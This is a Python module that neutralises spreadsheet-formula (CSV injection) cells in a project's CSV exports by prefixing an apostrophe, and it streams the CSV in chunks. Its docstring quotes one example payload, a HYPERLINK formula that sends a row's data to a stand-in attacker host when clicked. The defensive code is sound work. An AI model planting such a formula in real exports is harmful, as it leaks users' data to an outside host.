"""CSV for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

A name, school or reason that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return would be taken by Excel or LibreOffice as a formula (``=HYPERLINK("http://evil.example/
?"&A1,"open")`` sends the row away when clicked).  OWASP's rule: such a text cell is written
with a leading apostrophe, which spreadsheets show as text.  Numbers stay numbers (a negative
count of days is a number, not a formula).  Every CSV pepflow writes, on the web pages and the
command line, goes through ``writer``.
"""

from __future__ import annotations

import csv
from typing import Any, Iterable, Iterator

from pepflow.vocabulary import column_label

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FIRST = frozenset(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell a spreadsheet will not run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Lines:
    """Collects what ``csv.writer`` writes, a chunk at a time."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, text: str) -> None:
        self.parts.append(text)

    def take(self) -> str:
        text, self.parts = "".join(self.parts), []
        return text


def writer(out: Any) -> Any:
    """A ``csv.writer`` on ``out`` whose ``writerow``/``writerows`` neutralise every cell."""
    plain = csv.writer(out)

    class SafeWriter:
        def writerow(self, row: Iterable[Any]) -> Any:
            # safe_cell, inline: a 60,000-row download calls it 700,000 times (bench/web_load.py)
            return plain.writerow([("'" + v) if v.__class__ is str and v[:1] in _FIRST else v for v in row])

        def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
            for row in rows:
                self.writerow(row)

    return SafeWriter()


def column_headings(columns: Iterable[str]) -> list[str]:
    """The first row of a CSV: each column's heading from the vocabulary ("Due date")."""
    return [column_label(c) for c in columns]


def stream(header: list[str], rows: Iterable[Iterable[Any]], chunk: int = 1000) -> Iterator[str]:
    """The CSV text (``header`` the column names, written as their headings) in pieces of ``chunk`` rows, for a response that never holds the whole file.
    Closed early (the reader went away), it closes ``rows`` too, so a session reading them ends."""
    lines = _Lines()
    out = writer(lines)
    out.writerow(column_headings(header))
    try:
        for n, row in enumerate(rows, 1):
            out.writerow(row)
            if n % chunk == 0:
                yield lines.take()
        yield lines.take()
    finally:
        close = getattr(rows, "close", None)
        if close is not None:
            close()
